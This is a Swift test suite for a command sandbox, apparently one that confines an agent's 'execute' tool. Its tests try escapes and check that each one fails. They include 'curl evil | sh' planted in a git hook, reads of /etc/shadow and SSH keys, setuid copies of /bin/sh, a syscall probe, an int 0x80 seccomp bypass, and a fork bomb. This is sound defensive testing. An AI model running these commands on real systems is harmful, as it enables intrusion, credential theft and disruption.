import Foundation
@testable import Sandbox
import TestSupport
import Testing
@testable import Tools

/// The escape suite: every attempt runs through `execute` in a confined session and must fail,
/// leaving the host as it was.
@Suite(.serialized) struct EscapeTests: UsesFixture {
    let fixture: Fixture

    init() throws { fixture = try Fixture() }

    @Test func writesOutsideTheWorkspaceFail() async throws {
        let outside = scratch.root + "/outside.txt"
        let result = await run("touch /etc/toolhost-escape; touch /usr/toolhost-escape; echo x > \(outside); echo done")
        #expect(result.text.contains("Read-only file system"))
        #expect(!FileManager.default.fileExists(atPath: "/etc/toolhost-escape"))
        #expect(!FileManager.default.fileExists(atPath: "/usr/toolhost-escape"))
        #expect(!FileManager.default.fileExists(atPath: outside), "the host's /tmp is not the sandbox's")
    }

    @Test func writesThroughAPlantedSymlinkFail() async throws {
        try FileManager.default.createDirectory(atPath: scratch.root + "/target", withIntermediateDirectories: true)
        let result = await run("ln -s /etc/hostname host-link && echo pwned >> host-link; ln -s \(scratch.root)/target out && echo x > out/planted; echo done")
        #expect(result.text.contains("Read-only file system") || result.text.contains("Permission denied"))
        #expect(try String(contentsOfFile: "/etc/hostname", encoding: .utf8).contains("pwned") == false)
        #expect(!FileManager.default.fileExists(atPath: scratch.root + "/target/planted"))
    }

    @Test func gitIsReadOnlyAndImmovable() async throws {
        try scratch.write(".git/hooks/README", "hooks\n")
        try scratch.write(".git/config", "[core]\n")
        try scratch.write(".git/HEAD", "ref: refs/heads/main\n")
        let session = try scratch.session("git")
        let result = await run(
            """
            echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; echo 'ref: refs/heads/work' > .git/HEAD
            mv .git moved; cp -r .git copy; rm -rf .git; echo 'gitdir: /root/.git' > .git; ln -sfn copy .git; ls -a
            """,
            in: session)
        #expect(result.text.contains("Read-only file system"))
        #expect(result.text.contains("Device or resource busy"), "renaming the mount point fails")
        #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/.git/hooks/pre-commit"))
        #expect(try scratch.read(".git/config") == "[core]\n")
        #expect(try scratch.read(".git/HEAD") == "ref: refs/heads/main\n")
        var info = stat()
        #expect(lstat(scratch.workspacePath + "/.git", &info) == 0 && (info.st_mode & S_IFMT) == S_IFDIR)
        #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/moved"))
    }

    @Test func aWorkspaceWithoutGitCannotGetOneFromACommand() async throws {
        let result = await run("git init -q -b main 2>&1; mkdir -p .git/hooks 2>&1; ls -a .git")
        #expect(result.text.contains("Read-only file system"))
        #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/.git/HEAD"))
        let status = await call("git_status", [:], in: session)
        #expect(status.isError && status.text.contains("git_commit creates one"))
        try scratch.write("a.txt", "a\n")
        let commit = await call("git_commit", ["message": "first"], in: session)
        #expect(!commit.isError, "\(commit.text)")
        #expect(commit.text.contains("Created the repository"))
        #expect(try scratch.read(".git/HEAD") == "ref: refs/heads/main\n")
        // The host made it, and the sandbox still cannot write it.
        let after = await run("touch .git/hooks/pre-commit 2>&1; echo x")
        #expect(after.text.contains("Read-only file system"))
    }

    @Test func commandsRunAsAnUnprivilegedHostUser() async throws {
        try #require(geteuid() == 0, "only a root toolhost maps commands to another uid")
        let result = await run("cat /etc/shadow 2>&1; touch mine")
        #expect(result.text.contains("Permission denied"))
        #expect(!result.text.contains("root:"), "no line of /etc/shadow")
        var info = stat()
        #expect(stat(scratch.workspacePath + "/mine", &info) == 0)
        #expect(info.st_uid == getuid(), "files made in the workspace belong to its owner")
        // From the host, the command's processes are not root.
        let runner = try #require(session.runner as? ConfinedRunner)
        #expect(runner.hostIdentity.uid != 0)
    }

    @Test func setuidBitsNeverReachTheWorkspace() async throws {
        let result = await run("cp /bin/sh s; chmod 4755 s; chmod g+s s; install -m 6755 /bin/sh t; ls -l s t")
        for name in ["s", "t"] {
            var info = stat()
            // The files are made (only their bits are refused), so there is something to check.
            try #require(stat(scratch.workspacePath + "/" + name, &info) == 0, "\(name) was not made: \(result.text)")
            #expect(info.st_mode & (S_ISUID | S_ISGID) == 0, "\(name) is setuid on the host: \(result.text)")
        }
    }

    /// Runner uids are never handed out twice while they may be in use: 300 runners in a row all
    /// get their own (the 257th of a process used to get the first's), and the uid of a live
    /// command is seen as in use, so a process coming round again skips it.
    @Test func runnerUidsAreNeverHandedOutTwice() async throws {
        try #require(geteuid() == 0, "only a root toolhost maps commands to another uid")
        let started = await call("execute", ["command": "sleep 60", "background": true], in: session)
        try #require(!started.isError, "\(started.text)")
        defer { Task { _ = await call("stop_background", ["id": "all"], in: session) } }
        let live = try #require(session.runner as? ConfinedRunner).hostIdentity.uid
        var visible = false
        for _ in 0..<100 where !visible {
            visible = UserMapping.uidsInUse().contains(live)
            if !visible { try await Task.sleep(for: .milliseconds(20)) }
        }
        #expect(visible, "the background command's uid \(live) is seen in use")
        var seen: Set<UInt32> = [live]
        for _ in 0..<300 {
            let mapping = try UserMapping(workspaceOwner: (0, 0))
            #expect(seen.insert(mapping.uid).inserted, "uid \(mapping.uid) was handed out twice")
        }
    }

    /// An open runner keeps its uid even with no process running as it: a process whose counter
    /// comes round to the same serial (after 32,768 runners) skips it.
    @Test func anOpenRunnersUidIsNotHandedOutAgain() async throws {
        try #require(geteuid() == 0, "only a root toolhost maps commands to another uid")
        let serial = UserMapping.counter.value
        let open = try UserMapping(workspaceOwner: (0, 0))
        UserMapping.counter.value = serial
        let next = try UserMapping(workspaceOwner: (0, 0))
        #expect(next.uid != open.uid, "the open runner's uid \(open.uid) was handed out again")
    }

    @Test func hostSocketDaemonsAreUnreachable() async throws {
        // A daemon listening on a pathname socket under /run, as systemd, dbus or containerd do.
        let folder = "/run/toolhost-test-\(getpid())"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let server = Process()
        server.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        server.arguments = ["-c", "import socket,sys; s=socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(); c,_=s.accept(); c.send(b'hello-from-host'); c.close()", folder + "/d.sock"]
        // Its output goes nowhere, and it is killed outright: a test process may block SIGTERM for
        // its children, and a leftover holding the test's stdout would keep the runner waiting.
        server.standardOutput = FileHandle.nullDevice
        server.standardError = FileHandle.nullDevice
        try server.run()
        defer { kill(server.processIdentifier, SIGKILL) }
        _ = await eventually(within: .seconds(1)) { FileManager.default.fileExists(atPath: folder + "/d.sock") }
        let command = "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\(folder)/d.sock'); print(s.recv(64))\" 2>&1; ls /run /var/run"
        let result = await run(command)
        #expect(!result.text.contains("hello-from-host"))
        #expect(result.text.contains("No such file or directory"))
    }


    @Test func homeSecretsAndTheHostTmpAreInvisible() async throws {
        let home = "/root/.toolhost-test-home-\(UInt32.random(in: 0...UInt32.max))"
        try FileManager.default.createDirectory(atPath: home + "/.ssh", withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: home) }
        try "SECRET-KEY".write(toFile: home + "/.ssh/id_rsa", atomically: true, encoding: .utf8)
        let hostTmp = "/tmp/toolhost-host-secret-\(UInt32.random(in: 0...UInt32.max))"
        try "HOST-TMP-SECRET".write(toFile: hostTmp, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: hostTmp) }
        let session = try scratch.session("secrets", host: ["PATH": "/usr/bin:/bin", "HOME": home])
        let result = await run("cat ~/.ssh/id_rsa \(home)/.ssh/id_rsa \(hostTmp) /root/.bash_history 2>&1; ls -A /root; echo HOME=$HOME", in: session)
        #expect(!result.text.contains("SECRET-KEY"))
        #expect(!result.text.contains("HOST-TMP-SECRET"))
        #expect(result.text.contains("HOME=/tmp/home"))
    }

    @Test func egressToTheHostLoopbackFails() async throws {
        let listener = try LoopbackListener()
        let result = await run(
            "curl -sS -m 3 http://127.0.0.1:\(listener.port)/ 2>&1; (exec 3<>/dev/tcp/127.0.0.1/\(listener.port)) 2>&1; echo rc=$?")
        #expect(result.text.contains("rc=1"))
        #expect(!listener.hasPendingConnection, "nothing from the sandbox reached the host's listener")
    }

    @Test func aBackgroundServerIsReachableFromLaterCommandsOnly() async throws {
        let port = Int.random(in: 20_000...40_000)
        try scratch.write("index.html", "hello from the sandbox\n")
        let started = await call(
            "execute", ["command": .string("exec python3 -m http.server \(port) --bind 127.0.0.1"), "background": true], in: session)
        #expect(!started.isError, "\(started.text)")
        let fetched = await run("curl -sS -m 5 --retry 20 --retry-delay 0 --retry-connrefused http://127.0.0.1:\(port)/index.html")
        // curl reports each refused attempt on stderr while the server is still starting; what
        // matters is that an attempt got the page.
        #expect(fetched.text.contains("hello from the sandbox\n"), "\(fetched.text)")
        #expect(LoopbackListener.canConnect(port: UInt16(port)) == false, "the host cannot reach the session's server")
        await session.close()
    }

    @Test func theKernelAttackSurfaceIsClosed() async throws {
        let probe = #"""
            import ctypes, errno, fcntl, os, subprocess, termios
            libc = ctypes.CDLL(None, use_errno=True)
            def sys(name, number, *args):
                r = libc.syscall(number, *args)
                print(f"{name}={'ok' if r >= 0 else errno.errorcode[ctypes.get_errno()]}")
            master, slave = os.openpty()
            try:
                fcntl.ioctl(slave, termios.TIOCSTI, b"x"); print("tiocsti=ok")
            except OSError as e:
                print(f"tiocsti={errno.errorcode[e.errno]}")
            sys("ptrace", 101, 0, 0, 0, 0)
            sys("mount", 165, b"none", b"/mnt", b"tmpfs", 0, 0)
            sys("unshare", 272, 0x10000000)
            sys("keyctl", 250, 0, 0, 0, 0)
            sys("io_uring_setup", 425, 8, ctypes.create_string_buffer(120))
            sys("bpf", 321, 0, 0, 0)
            victim = subprocess.Popen(["sleep", "30"])
            try:
                open(f"/proc/{victim.pid}/mem", "wb"); print("procmem=ok")
            except OSError as e:
                print(f"procmem={errno.errorcode[e.errno]}")
            victim.kill()
            """#
        try scratch.write("probe.py", probe)
        let result = await run("python3 probe.py")
        for line in ["tiocsti=EPERM", "ptrace=EPERM", "mount=EPERM", "unshare=EPERM", "keyctl=EPERM", "io_uring_setup=EPERM", "bpf=EPERM"] {
            #expect(result.text.contains(line), "\(line) in \(result.text)")
        }
        #expect(result.text.contains("procmem=EROFS") || result.text.contains("procmem=EACCES"), "\(result.text)")
        #expect(!result.text.contains("=ok"))
    }

    #if arch(x86_64)
    /// The 32-bit entry (int $0x80) reaches none of what the filter refuses under the 64-bit
    /// numbers: its architecture is not in the program, and a call of it meets the filter's
    /// bad-architecture action, which kills. The call tried is i386's unshare(CLONE_NEWUSER).
    @Test func theThirtyTwoBitEntryIsKilled() async throws {
        try scratch.write("i386.c", #"int main(void) { long r; __asm__ volatile("int $0x80" : "=a"(r) : "a"(310L), "b"(0x10000000L)); return r == 0 ? 3 : 4; }"# + "\n")
        let result = await run("cc -static -o i386 i386.c && ./i386; echo rc=$?")
        #expect(result.text.contains("rc=159"), "killed by SIGSYS: \(result.text)")
    }
    #endif

    @Test func setuidGainsNothingAndSeccompIsInForce() async throws {
        let result = await run("grep -E '^(NoNewPrivs|Seccomp|CapEff|CapBnd):' /proc/self/status")
        #expect(result.text.contains("NoNewPrivs:\t1"))
        #expect(result.text.contains("Seccomp:\t2"))
        #expect(result.text.contains("CapEff:\t0000000000000000"))
        #expect(result.text.contains("CapBnd:\t0000000000000000"))
    }

    @Test func onlyTheSandboxesOwnProcessesAreVisible() async throws {
        let result = await run("ls /proc | grep -cE '^[0-9]+$'; test -e /proc/\(getpid()) && echo host-visible; echo pid=$$")
        let count = Int(result.text.split(separator: "\n").first ?? "") ?? 999
        #expect(count < 10)
        #expect(!result.text.contains("host-visible"))
        #expect(result.text.contains("pid=1"))
    }

    @Test func aForkBombIsContained() async throws {
        let session = try scratch.session("bomb", profile: "strict")
        let marker = "bomb-\(UInt32.random(in: 0...UInt32.max))"
        let bomb = "b(){ b | b & }; b; sleep 10 # \(marker)"
        let started = ContinuousClock.now
        let result = await run(bomb, timeout: 3, in: session)
        #expect(ContinuousClock.now - started < .seconds(30))
        #expect(result.structured?["timed_out"] == true)
        #expect(await allGone(withArgument: bomb), "no bomb process survives the call")
        let after = await run("echo still-fine", in: session)
        #expect(after.text.hasPrefix("still-fine\n"))
    }

    @Test func commandsRunInTheSessionsCgroupsWhichGoAwayWithIt() async throws {
        let session = try scratch.session("cgroups")
        let result = await run("grep -E ':(pids|memory):' /proc/self/cgroup", in: session)
        let paths = result.text.split(separator: "\n").filter { $0.contains(":pids:/") || $0.contains(":memory:/") }
            .map { line -> String in
                let parts = line.split(separator: ":", maxSplits: 2)
                return "/sys/fs/cgroup/\(parts[1])\(parts[2])"
            }
        if ProcessCgroup.parent(for: .pids) != nil { #expect(paths.contains { $0.contains("-pids-") }, "\(result.text)") }
        if ProcessCgroup.parent(for: .memory) != nil { #expect(paths.contains { $0.contains("-memory-") }, "\(result.text)") }
        for path in paths { #expect(FileManager.default.fileExists(atPath: path)) }
        await session.close()
        for path in paths { #expect(!FileManager.default.fileExists(atPath: path), "\(path) is removed with the session") }
    }

    @Test func theNetworkProfileReachesTheHostAndKeepsTheRest() async throws {
        let listener = try LoopbackListener()
        let session = try scratch.session("net", profile: "network")
        let result = await run("(exec 3<>/dev/tcp/127.0.0.1/\(listener.port)) && echo connected; touch /etc/x; grep Seccomp: /proc/self/status", in: session)
        #expect(result.text.contains("connected"))
        #expect(listener.hasPendingConnection)
        #expect(result.text.contains("Read-only file system"))
        #expect(result.text.contains("Seccomp:\t2"))
    }

    /// The screenshot tool hands Chromium a pipe on fds 3 and 4; every other descriptor is closed.
    @Test func extraDescriptorsReachTheChildAndNothingElseDoes() async throws {
        let runner = session.runner
        var toChild: [Int32] = [0, 0]
        var fromChild: [Int32] = [0, 0]
        #expect(pipe(&toChild) == 0 && pipe(&fromChild) == 0)
        let leaked = open("/dev/null", O_RDONLY)  // not close-on-exec, and not asked for
        defer { close(leaked) }
        var spec = ProcessSpec(
            executable: "/bin/sh", arguments: ["-c", "read line <&3; echo \"got $line\" >&4; ls /proc/self/fd"],
            environment: runner.baseEnvironment(host: [:]), workingDirectory: scratch.workspacePath, timeout: .seconds(10))
        spec.extraDescriptors = [3: toChild[0], 4: fromChild[1]]
        _ = "ping\n".withCString { write(toChild[1], $0, 5) }
        let outcome = try await runner.run(spec)
        close(toChild[0]); close(toChild[1]); close(fromChild[1])
        var buffer = [UInt8](repeating: 0, count: 64)
        let n = read(fromChild[0], &buffer, 64)
        close(fromChild[0])
        #expect(String(decoding: buffer[..<max(n, 0)], as: UTF8.self) == "got ping\n")
        let fds = String(decoding: outcome.head, as: UTF8.self).split(separator: "\n").compactMap { Int($0) }
        #expect(Set(fds).isSubset(of: [0, 1, 2, 3, 4, 5]), "only the asked-for descriptors (and ls's own) are open: \(fds)")
    }

    @Test func aProfileRequiringAMissingMechanismRefusesWithTheReason() async throws {
        var profile = try SandboxProfile.load("default")
        profile.requires.append(.userNamespace)
        let mechanisms = Mechanisms.probe(environment: [Mechanisms.simulateVariable: "user_namespace"])
        #expect {
            try ConfinedRunner(profile: profile, workspace: scratch.workspacePath, stateDirectory: scratch.statePath, host: [:], mechanisms: mechanisms)
        } throws: { error in
            "\(error)".contains("profile default requires user_namespace, which this machine does not allow: simulated")
        }
    }
}

/// A TCP listener on the host's 127.0.0.1 that never accepts, so a connection that reached it waits in its backlog.
final class LoopbackListener {
    let fd: Int32
    let port: UInt16

    init() throws {
        let socketFD = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                bind(socketFD, $0, length) == 0 && listen(socketFD, 16) == 0 && getsockname(socketFD, $0, &length) == 0
            }
        }
        guard bound else {
            close(socketFD)
            throw POSIXError(.EADDRINUSE)
        }
        fd = socketFD
        port = UInt16(bigEndian: address.sin_port)
    }

    deinit { close(fd) }

    var hasPendingConnection: Bool {
        var entry = pollfd(fd: fd, events: Int16(POLLIN), revents: 0)
        return poll(&entry, 1, 100) > 0
    }

    /// Whether something on the host's loopback accepts connections on `port`.
    static func canConnect(port: UInt16) -> Bool {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        defer { close(fd) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = port.bigEndian
        return withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) == 0 }
        }
    }
}

/// When a command fails on a confinement rule, the footer names the rule and the way forward.
@Suite struct DenialReportTests {
    @Test func eachRuleIsNamedWithAWayForward() async throws {
        let scratch = try Scratch()
        try scratch.write(".git/hooks/README", "hooks\n")
        let session = try scratch.session()
        let cases: [(String, String)] = [
            ("echo x > /etc/toolhost-denied", "denied by filesystem (profile default): only the workspace"),
            ("curl -sS -m 5 http://example.com/", "denied by network: loopback (profile default)"),
            ("echo x > .git/hooks/pre-push", "denied by filesystem.read_only (profile default): .git is read-only to commands"),
            ("python3 -c 'import os; os.setns(0, 0)' 2>&1 || unshare -r true", "denied by seccomp and capabilities"),
        ]
        for (command, expected) in cases {
            let result = await call("execute", ["command": .string(command)], in: session)
            #expect(result.text.contains(expected), "\(command): \(result.text)")
        }
        let fine = await call("execute", ["command": "echo ok"], in: session)
        #expect(!fine.text.contains("denied"))
    }

    @Test func limitsAreNamed() async throws {
        let scratch = try Scratch()
        let session = try scratch.session(profile: "strict")
        let big = await call("execute", ["command": "head -c 70000000 /dev/zero > big.bin"], in: session)
        #expect(big.text.contains("denied by limits.file_size_mb = 64 (profile strict)"), "\(big.text)")
        #expect(!FileManager.default.fileExists(atPath: scratch.workspacePath + "/big.bin")
            || ((try? FileManager.default.attributesOfItem(atPath: scratch.workspacePath + "/big.bin")[.size] as? Int) ?? 0) <= 64 << 20)
    }

}
